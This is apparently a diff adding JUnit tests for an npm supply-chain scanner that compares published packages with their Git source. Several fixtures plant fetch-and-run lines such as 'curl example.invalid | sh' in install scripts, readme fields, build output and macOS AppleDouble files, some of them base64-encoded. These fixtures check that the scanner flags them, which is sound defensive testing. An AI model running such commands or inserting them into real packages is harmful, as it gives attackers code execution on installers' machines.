@@ -21,6 +21,7 @@ import dev.divergence.model.Release;
 import dev.divergence.model.ReleaseReport;
 import dev.divergence.model.RiskFlag;
 import dev.divergence.model.Verdict;
+import dev.divergence.compare.Classifier;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -73,7 +74,9 @@ class NpmScanTest {
                         + "  \"main\": \"./index.js\",\n  \"bin\": \"./cli.js\",\n"
                         + "  \"repository\": {\"type\": \"git\", \"url\": \"https://github.com/acme/widget\","
                         + " \"directory\": \"packages/widget\"},\n"
+                        + "  \"files\": [\"index.js\", \"cli.js\", \"lib\"],\n"
                         + "  \"dependencies\": {\"@acme/util\": \"workspace:^\"},\n  \"publishConfig\": {\"access\": \"public\"}\n}\n",
+                "packages/widget/.gitignore", "/lib\n",
                 "packages/widget/index.js", "module.exports = require('./lib/impl');\n",
                 "packages/widget/cli.js", "#!/usr/bin/env node\nrequire('./index');\n",
                 "packages/widget/Readme.md", "# widget\n",
@@ -86,7 +89,7 @@ class NpmScanTest {
                     "package.json", "{\"name\":\"@acme/widget\",\"version\":\"1.2.0\",\"main\":\"index.js\","
                             + "\"bin\":{\"widget\":\"cli.js\"},\"repository\":{\"type\":\"git\","
                             + "\"url\":\"git+https://github.com/acme/widget.git\",\"directory\":\"packages/widget\"},"
-                            + "\"dependencies\":{\"@acme/util\":\"^1.0.0\"}}",
+                            + "\"files\":[\"index.js\",\"cli.js\",\"lib\"],\"dependencies\":{\"@acme/util\":\"^1.0.0\"}}",
                     "index.js", "module.exports = require('./lib/impl');\n",
                     "cli.js", "#!/usr/bin/env node\nrequire('./index');\n",
                     "README.md", "# widget\n",
@@ -354,7 +357,7 @@ class NpmScanTest {
     void publishConfigIsAppliedFromTheSourceOnlyNeverFromThePublishedManifest() throws Exception {
         SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.5.0",
                         ",\n  \"publishConfig\": {\"bin\": \"./dist/cli.js\"}"),
-                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", ".gitignore", "dist/\n");
         // honest: the source's publishConfig moved bin to dist/ at publish
         ArtifactReport honest = publishAndScan(tree, "4.5.0", with(tree, "dist/cli.js", "require('../index');\n",
                 "package.json", "{\"name\":\"widget\",\"version\":\"4.5.0\",\"main\":\"index.js\",\"bin\":{\"widget\":\"dist/cli.js\"},"
@@ -383,7 +386,8 @@ class NpmScanTest {
 
     @Test
     void buildOutputIsContentScannedAndCountedAsUnverified() throws Exception {
-        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.7.0", ""),
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.7.0",
+                        ",\n  \"files\": [\"index.js\", \"cli.js\", \"dist/\"]"), ".gitignore", "node_modules\n/dist\n",
                 "index.js", "module.exports = require('./dist/impl');\n", "cli.js", "require('./index');\n");
         ArtifactReport a = publishAndScan(tree, "4.7.0", with(tree,
                 "dist/impl.js", "exports.x = /a(b)/.exec(s) + String.fromCharCode(65) + Function(\"return this\")();\n"
@@ -426,5 +430,416 @@ class NpmScanTest {
         assertTrue(boot.riskFlags().contains(RiskFlag.ENTRY_MODULE));
         assertTrue(boot.highRisk());
         assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+    /** Commits {@code tree} without a tag (a pre-release published from a working tree) and scans {@code version}. */
+    private ArtifactReport publishUntaggedAndScan(SortedMap<String, byte[]> tree, String version,
+                                                  SortedMap<String, byte[]> shipped) throws Exception {
+        commit(tree, "work");
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish(version, shipped);
+            return scan(npm, "pkg:npm/widget", version).artifacts().get(0);
+        }
+    }
+
+    private static final String PRE_BASE = ",\n  \"dependencies\": {\"left-pad\": \"^1.0.0\"},\n"
+            + "  \"scripts\": {\"test\": \"tap\"}";
+
+    private static SortedMap<String, byte[]> preTree() {
+        return files("package.json", pkgJson("widget", "6.6.0", PRE_BASE), "index.js", "module.exports = 1;\n",
+                "cli.js", "require('./index');\n");
+    }
+
+    @Test
+    void aPreReleaseWhoseManifestDiffersOnlyByThisReleasesVersionIsExplained() throws Exception {
+        SortedMap<String, byte[]> tree = preTree();
+        ArtifactReport a = publishUntaggedAndScan(tree, "6.6.1-candidate.0", with(tree, "package.json",
+                pkgJson("widget", "6.6.1-candidate.0", PRE_BASE)));
+        FileDivergence pj = row(a, "package/package.json");
+        assertEquals(FileStatus.MATCH_NORMALIZED, pj.status());
+        assertEquals(NpmGeneratedFiles.VERSION_ONLY, pj.ruleId());
+        assertEquals("only the version differs: published 6.6.1-candidate.0, source declares 6.6.0",
+                pj.detail().orElseThrow());
+        assertEquals(Verdict.EXPLAINED, a.verdict());
+    }
+
+    @Test
+    void aVersionWithBlanksIsTheVersionNpmReadsButNotAnotherOne() throws Exception {
+        SortedMap<String, byte[]> tree = preTree();
+        commit(tree, "work");
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish("6.6.2-candidate.1", with(tree, "package.json", pkgJson("widget", " 6.6.2-candidate.1", PRE_BASE)));
+            npm.publish("6.6.2-candidate.2", with(tree, "package.json", pkgJson("widget", "6.6.2-candidate.22", PRE_BASE)));
+            ReleaseReport ok = scan(npm, "pkg:npm/widget", "6.6.2-candidate.1");
+            assertEquals(NpmGeneratedFiles.VERSION_ONLY, row(ok.artifacts().get(0), "package/package.json").ruleId());
+            assertEquals(Verdict.EXPLAINED, ok.verdict());
+            ReleaseReport other = scan(npm, "pkg:npm/widget", "6.6.2-candidate.2");
+            assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, row(other.artifacts().get(0), "package/package.json").ruleId());
+            assertEquals(Verdict.DIVERGENT, other.verdict());
+        }
+    }
+
+    @Test
+    void theVersionOnlyRuleExplainsNothingBesideTheVersion() throws Exception {
+        SortedMap<String, byte[]> tree = preTree();
+        commit(tree, "work");
+        // each payload sits beside a version bump; none may ride on the version-only explanation
+        String[][] cases = {
+                {"7.0.0-alpha.1", pkgJson("widget", "7.0.0-alpha.1", PRE_BASE).replace("./index.js", "./loader.js"),
+                        "package.json fields differ: [main, version]"},
+                {"7.0.0-alpha.2", pkgJson("widget", "7.0.0-alpha.2", PRE_BASE.replace("\"tap\"", "\"tap\", \"lint\": \"x\"")),
+                        "package.json differs only in fields no install or run reads: [scripts, version]"},
+                {"7.0.0-alpha.3", pkgJson("widget", "7.0.0-alpha.3", PRE_BASE + ",\n  \"engines\": {\"node\": \">=4\"}"),
+                        "package.json fields differ: [engines, version]"},
+                {"7.0.0-alpha.4", pkgJson("widget", "7.0.0", PRE_BASE), "package.json fields differ: [version]"},
+        };
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            for (String[] c : cases) {
+                npm.publish(c[0], with(tree, "package.json", c[1], "loader.js", "module.exports = 2;\n"));
+            }
+            npm.publish("7.0.0-alpha.5", with(tree, "package.json", pkgJson("widget", "7.0.0-alpha.5",
+                    PRE_BASE.replace("{\"left-pad\": \"^1.0.0\"}", "{\"left-pad\": \"^1.0.0\", \"evil\": \"1.0.0\"}"))));
+            for (String[] c : cases) {
+                FileDivergence pj = row(scan(npm, "pkg:npm/widget", c[0]).artifacts().get(0), "package/package.json");
+                assertEquals(FileStatus.MODIFIED, pj.status(), c[0]);
+                assertEquals(c[2].startsWith("package.json differs only") ? NpmGeneratedFiles.DEV_FIELDS_DIFFER
+                        : NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, pj.ruleId(), c[0]);
+                assertEquals(c[2], pj.detail().orElseThrow(), c[0]);
+            }
+            npm.publish("7.0.0-alpha.6", with(tree, "package.json", pkgJson("widget", "7.0.0-alpha.6",
+                    PRE_BASE.replace("^1.0.0", "^1.3.0"))));
+            ReleaseReport dep = scan(npm, "pkg:npm/widget", "7.0.0-alpha.5");
+            assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, row(dep.artifacts().get(0), "package/package.json").ruleId());
+            assertEquals(Verdict.HIGH_RISK, dep.verdict());
+            ReleaseReport range = scan(npm, "pkg:npm/widget", "7.0.0-alpha.6");
+            FileDivergence pj = row(range.artifacts().get(0), "package/package.json");
+            assertEquals(FileStatus.MODIFIED, pj.status());
+            assertEquals(NpmGeneratedFiles.DEPENDENCY_RANGE, pj.ruleId());
+            assertEquals("dependency ranges differ from the source's [left-pad ^1.3.0 (source: ^1.0.0)]; "
+                    + "package.json fields differ: [dependencies, version]", pj.detail().orElseThrow());
+            assertEquals(Verdict.DIVERGENT, range.verdict());
+        }
+    }
+
+    @Test
+    void developmentOnlyFieldsRemovedAtPublishAreExplainedWithTheVersionBump() throws Exception {
+        String extra = ",\n  \"packageManager\": \"pnpm@10.14.0\",\n  \"prettier\": {\"semi\": false},\n"
+                + "  \"devDependencies\": {\"jest\": \"29\"},\n  \"scripts\": {\"prepare\": \"husky\", \"test\": \"jest\","
+                + " \"build\": \"tsc\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "3.0.0", extra),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        ArtifactReport a = publishUntaggedAndScan(tree, "3.0.0-canary.1", with(tree, "package.json",
+                pkgJson("widget", "3.0.0-canary.1", ",\n  \"scripts\": {\"build\": \"tsc\"}")));
+        FileDivergence pj = row(a, "package/package.json");
+        assertEquals(FileStatus.MATCH_NORMALIZED, pj.status());
+        assertEquals(NpmGeneratedFiles.VERSION_ONLY, pj.ruleId());
+        assertEquals("only the version differs: published 3.0.0-canary.1, source declares 3.0.0; development-only "
+                + "fields removed at publish: [devDependencies, packageManager, prettier, scripts.prepare, scripts.test]",
+                pj.detail().orElseThrow());
+        assertEquals(Verdict.EXPLAINED, a.verdict());
+    }
+
+    @Test
+    void strippingDevelopmentFieldsNeverExplainsARemovedEntryPointOrInstallScriptOrAChangedValue() throws Exception {
+        String extra = ",\n  \"prettier\": {\"semi\": false},\n"
+                + "  \"scripts\": {\"test\": \"jest\", \"postinstall\": \"node setup.js\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "3.1.0", extra),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", "setup.js", "1;\n",
+                "main.js", "module.exports = 2;\n");
+        commit(tree, "3.1.0");
+        git.tag("v3.1.0", false);
+        String keepPostinstall = ",\n  \"scripts\": {\"postinstall\": \"node setup.js\"}";
+        String[][] cases = {
+                // main removed: the entry point falls back to index.js
+                {"3.1.0", "{\"name\": \"widget\", \"version\": \"3.1.0\", \"bin\": \"./cli.js\", \"repository\": "
+                        + "\"github:acme/widget\", \"scripts\": {\"postinstall\": \"node setup.js\"}}",
+                        "package.json fields differ: [main]"},
+                // the install script removed is not a development field
+                {"3.1.1", pkgJson("widget", "3.1.0", ""), "package.json fields differ: [scripts]"},
+                // a development field whose value changed is not a removal
+                {"3.1.2", pkgJson("widget", "3.1.0", ",\n  \"prettier\": {\"semi\": true}" + keepPostinstall),
+                        "package.json differs only in fields no install or run reads: [prettier]"},
+        };
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            for (String[] c : cases) {
+                npm.publish(c[0], with(tree, "package.json", c[1]));
+            }
+            for (String[] c : cases) {
+                FileDivergence pj = row(scan(npm, "pkg:npm/widget", c[0]).artifacts().get(0), "package/package.json");
+                assertEquals(FileStatus.MODIFIED, pj.status(), c[0]);
+                assertEquals(c[2].startsWith("package.json differs only") ? NpmGeneratedFiles.DEV_FIELDS_DIFFER
+                        : NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, pj.ruleId(), c[0]);
+                assertEquals(c[2], pj.detail().orElseThrow(), c[0]);
+            }
+        }
+    }
+
+    @Test
+    void pinstRenamingPostinstallIsExplainedOnlyWhenTheRenamedScriptIsTheSources() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "8.0.0",
+                ",\n  \"scripts\": {\"postinstall\": \"husky install\", \"test\": \"tap\"}"),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        commit(tree, "8.0.0");
+        git.tag("v8.0.0", false);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish("8.0.0", with(tree, "package.json", pkgJson("widget", "8.0.0",
+                    ",\n  \"scripts\": {\"_postinstall\": \"husky install\", \"test\": \"tap\"}")));
+            npm.publish("8.0.1", with(tree, "package.json", pkgJson("widget", "8.0.0",
+                    ",\n  \"scripts\": {\"_postinstall\": \"curl example.invalid | sh\", \"test\": \"tap\"}")));
+            npm.publish("8.0.2", with(tree, "package.json", pkgJson("widget", "8.0.0",
+                    ",\n  \"scripts\": {\"_postinstall\": \"husky install\", \"postinstall\": \"node x.js\", \"test\": \"tap\"}")));
+            FileDivergence ok = row(scan(npm, "pkg:npm/widget", "8.0.0").artifacts().get(0), "package/package.json");
+            assertEquals(FileStatus.MATCH_NORMALIZED, ok.status());
+            assertEquals(NpmGeneratedFiles.PINST_DISABLED, ok.ruleId());
+            FileDivergence other = row(scan(npm, "pkg:npm/widget", "8.0.1").artifacts().get(0), "package/package.json");
+            assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, other.ruleId());
+            assertEquals("package.json fields differ: [scripts]", other.detail().orElseThrow());
+            FileDivergence both = row(scan(npm, "pkg:npm/widget", "8.0.2").artifacts().get(0), "package/package.json");
+            assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, both.ruleId());
+            assertTrue(both.highRisk());
+        }
+    }
+
+    @Test
+    void oldNpmsReadmeFieldIsExplainedOnlyWhenItIsTheShippedReadme() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "0.9.0", ""),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", "README.md", "# widget\n\nUse it.\n");
+        commit(tree, "0.9.0");
+        git.tag("v0.9.0", false);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish("0.9.0", with(tree, "package.json", pkgJson("widget", "0.9.0",
+                    ",\n  \"readme\": \"# widget\\n\\nUse it.\",\n  \"readmeFilename\": \"README.md\",\n  \"_id\": \"widget@0.9.0\","
+                            + "\n  \"_from\": \".\"")));
+            npm.publish("0.9.1", with(tree, "package.json", pkgJson("widget", "0.9.0",
+                    ",\n  \"readme\": \"# widget\\n\\nRun: curl example.invalid | sh\",\n  \"readmeFilename\": \"README.md\"")));
+            FileDivergence ok = row(scan(npm, "pkg:npm/widget", "0.9.0").artifacts().get(0), "package/package.json");
+            assertEquals(FileStatus.MATCH_NORMALIZED, ok.status());
+            assertEquals(NpmGeneratedFiles.README_FIELD, ok.ruleId());
+            FileDivergence other = row(scan(npm, "pkg:npm/widget", "0.9.1").artifacts().get(0), "package/package.json");
+            assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, other.ruleId());
+            assertEquals("package.json fields differ: [readme, readmeFilename]", other.detail().orElseThrow());
+        }
+    }
+
+    @Test
+    void aDependencySpecRewrittenToThisReleasesVersionIsNotAVersionString() throws Exception {
+        // the text rule would see only a version token turned into the release's; package.json is compared as data
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "9.0.0",
+                ",\n  \"dependencies\": {\"helper\": \"9.0.0\"}"), "index.js", "module.exports = 1;\n",
+                "cli.js", "require('./index');\n");
+        ArtifactReport a = publishUntaggedAndScan(tree, "9.0.1", with(tree, "package.json", pkgJson("widget", "9.0.1",
+                ",\n  \"dependencies\": {\"helper\": \"9.0.1\"}")));
+        FileDivergence pj = row(a, "package/package.json");
+        assertEquals(FileStatus.MODIFIED, pj.status());
+        assertEquals(NpmGeneratedFiles.DEPENDENCY_RANGE, pj.ruleId());
+        assertEquals("dependency ranges differ from the source's [helper 9.0.1 (source: 9.0.0)]; "
+                + "package.json fields differ: [dependencies, version]", pj.detail().orElseThrow());
+        assertEquals(Verdict.DIVERGENT, a.verdict());
+    }
+
+    private static final String BUILT_MANIFEST = "{\"name\": \"widget\", \"version\": \"10.0.0\", \"main\": \"./dist-node/index.js\","
+            + " \"exports\": {\"import\": \"./esm/index.mjs\", \"require\": \"./dist-node/index.js\"},"
+            + " \"types\": \"./types/index.d.ts\", \"bin\": {\"widget\": \"bin/cli.js\"},"
+            + " \"files\": [\"bin\", \"build\", \"dist-node\", \"esm\", \"lib\", \"types\"],"
+            + " \"repository\": \"github:acme/widget\"}\n";
+
+    private static SortedMap<String, byte[]> builtTree() {
+        return files("package.json", BUILT_MANIFEST,
+                ".gitignore", "node_modules/\n/dist-node/\nesm\nbuild/*\n!build/keep.js\ntmp/\n",
+                "types/.gitignore", "*.d.ts\n",
+                "src/index.ts", "export const x = 1;\n", "bin/cli.js", "require('../dist-node');\n",
+                "lib/util.js", "exports.u = 1;\n");
+    }
+
+    @Test
+    void buildOutputIsWhatPackageJsonNamesAndGitIgnoresWhateverTheFolder() throws Exception {
+        SortedMap<String, byte[]> tree = builtTree();
+        ArtifactReport a = publishAndScan(tree, "10.0.0", with(tree,
+                "dist-node/index.js", "exports.x = 1;\n", "dist-node/chunk-1.js", "exports.y = 2;\n",
+                "esm/index.mjs", "export const x = 1;\n", "types/index.d.ts", "export declare const x: number;\n",
+                "build/report.js", "module.exports = {};\n", "dist-node/index.js.map", "{\"version\":3}\n"));
+        for (String p : List.of("dist-node/index.js", "dist-node/chunk-1.js", "esm/index.mjs", "types/index.d.ts",
+                "build/report.js", "dist-node/index.js.map")) {
+            FileDivergence f = row(a, "package/" + p);
+            assertEquals(FileStatus.BUILD_OUTPUT, f.status(), p);
+            assertEquals(NpmGeneratedFiles.BUILD_OUTPUT, f.ruleId(), p);
+            assertFalse(f.highRisk(), p);
+        }
+        assertEquals("build output (named by package.json entry point, ignored by .gitignore): not verifiable "
+                + "without a rebuild", row(a, "package/dist-node/index.js").detail().orElseThrow());
+        assertEquals("build output (named by package.json entry point, ignored by types/.gitignore): not verifiable "
+                + "without a rebuild", row(a, "package/types/index.d.ts").detail().orElseThrow());
+        assertEquals("build output (named by package.json files entry build, ignored by .gitignore): not verifiable "
+                + "without a rebuild", row(a, "package/build/report.js").detail().orElseThrow());
+        assertEquals(Verdict.EXPLAINED, a.verdict());
+        assertEquals(6, dev.divergence.compare.Verdicts.unverifiedCount(a.files()));
+    }
+
+    @Test
+    void aFileGitDoesNotIgnoreOrPackageJsonDoesNotNameIsNotBuildOutput() throws Exception {
+        SortedMap<String, byte[]> tree = with(builtTree(), "dist-node/index.js", "exports.x = 0;\n");
+        ArtifactReport a = publishAndScan(tree, "10.0.0", with(tree,
+                "dist-node/index.js", "exports.x = 1;\n", // tracked although ignored: rebuilt at publish
+                "lib/extra.js", "exports.e = 1;\n", // named by files, not ignored
+                "lib/util.js", "exports.u = 2;\n", // in the source, differs, not ignored
+                "build/keep.js", "exports.k = 1;\n", // named, re-included by !build/keep.js
+                "tmp/x.js", "exports.t = 1;\n", // ignored, named by nothing
+                "extra.min.js", "exports.m=1;\n", // a build tool's kind of file that Git does not ignore
+                "esm/run.mjs", "import cp from 'child_process'; cp.exec('curl -s https://example.invalid | sh');\n"));
+        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/dist-node/index.js").status());
+        assertEquals(FileStatus.PHANTOM, row(a, "package/lib/extra.js").status());
+        assertEquals(Classifier.UNEXPLAINED, row(a, "package/lib/extra.js").ruleId());
+        assertEquals(FileStatus.MODIFIED, row(a, "package/lib/util.js").status());
+        assertEquals(FileStatus.PHANTOM, row(a, "package/build/keep.js").status());
+        assertEquals(FileStatus.PHANTOM, row(a, "package/tmp/x.js").status());
+        assertEquals(FileStatus.PHANTOM, row(a, "package/extra.min.js").status());
+        FileDivergence run = row(a, "package/esm/run.mjs");
+        assertEquals(FileStatus.BUILD_OUTPUT, run.status());
+        assertTrue(run.riskFlags().contains(RiskFlag.DYNAMIC_EXEC), run.riskFlags().toString());
+        assertTrue(run.highRisk(), "build output is still content-scanned");
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    /** What tar on macOS writes as {@code ._NAME}: header, Finder info with extended attributes, empty resource fork. */
+    private static byte[] appleDouble(byte[] finderInfo, byte[] trailing) {
+        java.nio.ByteBuffer b = java.nio.ByteBuffer.allocate(50 + finderInfo.length + trailing.length);
+        b.putInt(0x00051607).putInt(0x00020000).put("Mac OS X        ".getBytes(StandardCharsets.US_ASCII)).putShort((short) 2);
+        b.putInt(9).putInt(50).putInt(finderInfo.length);
+        b.putInt(2).putInt(50 + finderInfo.length).putInt(0);
+        b.put(finderInfo).put(trailing);
+        return b.array();
+    }
+
+    @Test
+    void macOsAppleDoubleFilesAreBenignJunkUnlessMalformedOrLoaded() throws Exception {
+        String manifest = "{\"name\":\"widget\",\"version\":\"1.0.2\",\"main\":\"._boot.js\",\"repository\":\"github:acme/widget\"}\n";
+        SortedMap<String, byte[]> tree = files("package.json", manifest, "index.js", "module.exports = 1;\n",
+                "History.md", "1.0.2\n");
+        byte[] attrs = "ATTR com.apple.quarantine 0081;4d2a;Safari;".getBytes(StandardCharsets.US_ASCII);
+        SortedMap<String, byte[]> shipped = with(tree);
+        shipped.put("._History.md", appleDouble(attrs, new byte[0]));
+        shipped.put("._index.js", appleDouble(attrs, new byte[0]));
+        shipped.put("._boot.js", appleDouble(attrs, new byte[0])); // named by main: node loads it
+        shipped.put("._payload.js", appleDouble(attrs,
+                "\nrequire('child_process').exec('curl -s https://example.invalid | sh');".getBytes(StandardCharsets.UTF_8)));
+        shipped.put("._fake.js", "require('child_process').exec(Buffer.from('Y3VybCBleGFtcGxl', 'base64'));\n"
+                .getBytes(StandardCharsets.UTF_8));
+        ArtifactReport a = publishAndScan(tree, "1.0.2", shipped);
+        for (String p : List.of("package/._History.md", "package/._index.js")) {
+            FileDivergence f = row(a, p);
+            assertEquals(FileStatus.PHANTOM, f.status(), p);
+            assertEquals(NpmGeneratedFiles.APPLEDOUBLE, f.ruleId(), p);
+            assertFalse(f.highRisk(), p);
+        }
+        assertEquals("macOS AppleDouble metadata of History.md (tar on macOS): not code",
+                row(a, "package/._History.md").detail().orElseThrow());
+        FileDivergence boot = row(a, "package/._boot.js");
+        assertEquals(NpmGeneratedFiles.APPLEDOUBLE, boot.ruleId());
+        assertTrue(boot.highRisk(), "a file main loads is never excused");
+        for (String p : List.of("package/._payload.js", "package/._fake.js")) {
+            FileDivergence f = row(a, p);
+            assertEquals(FileStatus.PHANTOM, f.status(), p);
+            assertEquals(Classifier.UNEXPLAINED, f.ruleId(), p);
+        }
+        assertEquals(List.of("package/._boot.js"), a.highRiskPaths());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    @Test
+    void filesUnderASubmoduleAreUnverifiableNotPhantomAndStillScanned() throws Exception {
+        String pinned = "0123456789abcdef0123456789abcdef01234567";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "1.0.1", ""),
+                "index.js", "module.exports = require('./support/haml');\n", "cli.js", "require('./index');\n",
+                ".gitmodules", "[submodule \"support/haml\"]\n\tpath = support/haml\n\turl = https://example.invalid/haml.git\n");
+        git.gitlink("support/haml", pinned);
+        ArtifactReport a = publishAndScan(tree, "1.0.1", with(tree,
+                "support/haml/index.js", "module.exports = function render() {};\n",
+                "support/haml/lib/blob.js", "module.exports = '" + Base64.getEncoder().encodeToString(new byte[900]) + "';\n",
+                "support/hamlet.js", "exports.h = 1;\n"));
+        FileDivergence h = row(a, "package/support/haml/index.js");
+        assertEquals(FileStatus.IN_SUBMODULE, h.status());
+        assertEquals(Classifier.IN_SUBMODULE, h.ruleId());
+        assertEquals("in submodule support/haml at commit " + pinned + ": not verifiable from this repository",
+                h.detail().orElseThrow());
+        assertFalse(h.highRisk());
+        FileDivergence blob = row(a, "package/support/haml/lib/blob.js");
+        assertEquals(FileStatus.IN_SUBMODULE, blob.status());
+        assertTrue(blob.riskFlags().contains(RiskFlag.ENCODED_BLOB));
+        assertTrue(blob.highRisk(), "judged whole, as a new file is");
+        // a sibling path that only shares the prefix is an ordinary file
+        assertEquals(FileStatus.PHANTOM, row(a, "package/support/hamlet.js").status());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+        assertTrue(a.divergentPaths().contains("package/support/haml/index.js"));
+    }
+
+    @Test
+    void aVersionWhoseOnlyDifferencesAreSubmoduleFilesIsNotExplained() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "1.0.2", ""),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        git.gitlink("support/ejs", "89abcdef0123456789abcdef0123456789abcdef");
+        ArtifactReport a = publishAndScan(tree, "1.0.2", with(tree, "support/ejs/index.js", "module.exports = {};\n"));
+        assertEquals(FileStatus.IN_SUBMODULE, row(a, "package/support/ejs/index.js").status());
+        assertEquals(Verdict.DIVERGENT, a.verdict());
+    }
+
+    @Test
+    void aPackageJsonThatExportsListsIsDataNotCodeAndARenamedReadmeIsComparedWithTheSources() throws Exception {
+        String manifest = "{\"name\": \"widget\", \"version\": \"17.0.0\", \"main\": \"./index.js\","
+                + " \"exports\": {\"./package.json\": \"./package.json\", \".\": \"./index.js\"},"
+                + " \"repository\": \"github:acme/widget\", \"engines\": {\"node\": \">=12\"}}\n";
+        SortedMap<String, byte[]> tree = files("package.json", manifest, "index.js", "module.exports = 1;\n",
+                "readme.md", "# widget\n");
+        ArtifactReport a = publishAndScan(tree, "17.0.0", with(dev.divergence.fixtures.Trees.without(tree, "readme.md"),
+                "package.json", manifest.replace(">=12", ">=10"), "README.md", "# widget\n\nNow with a banner.\n"));
+        FileDivergence pj = row(a, "package/package.json");
+        assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, pj.ruleId());
+        assertFalse(pj.riskFlags().contains(RiskFlag.AUTO_EXEC), pj.riskFlags().toString());
+        assertFalse(pj.highRisk());
+        FileDivergence readme = row(a, "package/README.md");
+        assertEquals(FileStatus.MODIFIED, readme.status());
+        assertEquals("readme.md", readme.sourcePath().orElseThrow());
+        assertEquals(Verdict.DIVERGENT, a.verdict());
+    }
+
+    @Test
+    void aManifestDifferingOnlyInDevelopmentFieldsIsDivergentAndNamedButAnyOtherFieldIsNot() throws Exception {
+        String dev = ",\n  \"devDependencies\": {\"nyc\": \"^7.0.0\"},\n  \"scripts\": {\"test\": \"nyc tap\","
+                + " \"postinstall\": \"node setup.js\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.0", dev),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", "setup.js", "1;\n");
+        commit(tree, "work");
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish("4.8.0-candidate", with(tree, "package.json", pkgJson("widget", "4.8.0-candidate",
+                    dev.replace("^7.0.0", "^6.4.2").replace("nyc tap", "tap"))));
+            npm.publish("4.8.0-candidate2", with(tree, "package.json", pkgJson("widget", "4.8.0-candidate2",
+                    dev.replace("^7.0.0", "^6.4.2") + ",\n  \"engines\": {\"node\": \">=4\"}")));
+            npm.publish("4.8.0-candidate3", with(tree, "package.json", pkgJson("widget", "4.8.0-candidate3",
+                    dev.replace("^7.0.0", "^6.4.2").replace(", \"postinstall\": \"node setup.js\"", ""))));
+            ReleaseReport named = scan(npm, "pkg:npm/widget", "4.8.0-candidate");
+            FileDivergence pj = row(named.artifacts().get(0), "package/package.json");
+            assertEquals(FileStatus.MODIFIED, pj.status());
+            assertEquals(NpmGeneratedFiles.DEV_FIELDS_DIFFER, pj.ruleId());
+            assertEquals("package.json differs only in fields no install or run reads: [devDependencies, scripts, version]",
+                    pj.detail().orElseThrow());
+            assertEquals(Verdict.DIVERGENT, named.verdict());
+            FileDivergence engines = row(scan(npm, "pkg:npm/widget", "4.8.0-candidate2").artifacts().get(0),
+                    "package/package.json");
+            assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, engines.ruleId());
+            FileDivergence lifecycle = row(scan(npm, "pkg:npm/widget", "4.8.0-candidate3").artifacts().get(0),
+                    "package/package.json");
+            assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, lifecycle.ruleId());
+        }
+    }
+
+    @Test
+    void typeDeclarationsTheRepositoryIgnoresAreBuildOutputWithoutBeingNamed() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "11.0.0", ""), ".gitignore", "*.d.ts\n",
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        ArtifactReport a = publishAndScan(tree, "11.0.0", with(tree, "src/index.d.ts", "export {};\n",
+                "src/helper.js", "exports.h = 1;\n"));
+        FileDivergence d = row(a, "package/src/index.d.ts");
+        assertEquals(FileStatus.BUILD_OUTPUT, d.status());
+        assertEquals("build output (a build tool's kind of file, ignored by .gitignore): not verifiable without a rebuild",
+                d.detail().orElseThrow());
+        assertEquals(FileStatus.PHANTOM, row(a, "package/src/helper.js").status(), "neither named nor ignored");
     }
 }
